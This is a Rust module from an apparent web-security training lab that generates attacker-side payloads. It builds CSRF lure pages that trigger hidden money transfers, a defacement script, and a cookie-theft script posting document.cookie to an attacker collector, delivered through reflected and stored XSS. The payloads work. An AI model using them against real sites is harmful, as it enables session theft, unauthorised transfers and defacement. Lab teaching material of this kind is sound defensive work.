//! Attacker-side payloads
//!
//! Pages served by the attacker origin and the injection strings the XSS
//! walkthroughs suggest. None of these touch the state store; they only make
//! a browser talk to the victim origin.

use lab_core::Origin;
use url::form_urlencoded;

/// Lure page whose link opens the victim's GET transfer endpoint in a popup
pub fn csrf_get_page(victim: &Origin, to: &str, amount: i64) -> String {
    let target = victim.url(&format!("/transfer?to={}&money={}", to, amount));
    format!(
        r#"
<div id="el">
  <p>Free HD wallpapers, <a href="javascript:transfer()">click to download</a> now!</p>
  <img id="img" width="300" src="https://picsum.photos/300" />
</div>
<script>
  function transfer() {{
    open('{target}', '', 'width=300,height=100,left=5000,top=5000')
    const h2 = document.createElement('h2')
    h2.innerHTML = 'Some links are better left unclicked.'
    el.appendChild(h2)
  }}
</script>"#,
        target = target
    )
}

/// Innocent-looking page that auto-submits a hidden transfer form into a
/// hidden iframe
pub fn csrf_post_page(victim: &Origin, to: &str, amount: i64) -> String {
    format!(
        r#"
<h2>Looks like a perfectly normal website.</h2>
<iframe name="hideIframe" style="display: none"></iframe>
<form
  id="form" target="hideIframe" method="POST"
  enctype="application/x-www-form-urlencoded"
  action="{action}"
  style="display: none"
>
  <input type="text" name="to" value="{to}" />
  <input type="number" name="money" value="{amount}" />
</form>
<script>form.submit()</script>
"#,
        action = victim.url("/transfer"),
        to = to,
        amount = amount
    )
}

/// Script served from the attacker's `/malicious.js`
pub const DEFACEMENT_SCRIPT: &str = r#"document.body.innerHTML = '<h1>Online casino, play now!</h1><img width=200 src="https://picsum.photos/200" />'"#;

/// Inline script that ships `document.cookie` to the attacker's collector
pub fn cookie_theft_script(attacker: &Origin) -> String {
    format!(
        "<script>fetch(`{}?cookie=${{document.cookie}}`)</script>",
        attacker.url("/cookies")
    )
}

/// Tag that pulls the defacement script from the attacker
pub fn external_script_tag(attacker: &Origin) -> String {
    format!(r#"<script src="{}"></script>"#, attacker.url("/malicious.js"))
}

/// Victim search URL carrying the cookie theft script in `q`
pub fn reflected_probe_url(victim: &Origin, attacker: &Origin) -> String {
    let q = format!("Kung Fu Panda{}", cookie_theft_script(attacker));
    let encoded: String = form_urlencoded::byte_serialize(q.as_bytes()).collect();
    victim.url(&format!("/movies?q={}", encoded))
}

/// Comment that looks friendly and carries the cookie theft script
pub fn stored_comment(attacker: &Origin) -> String {
    format!("Great article!{}", cookie_theft_script(attacker))
}
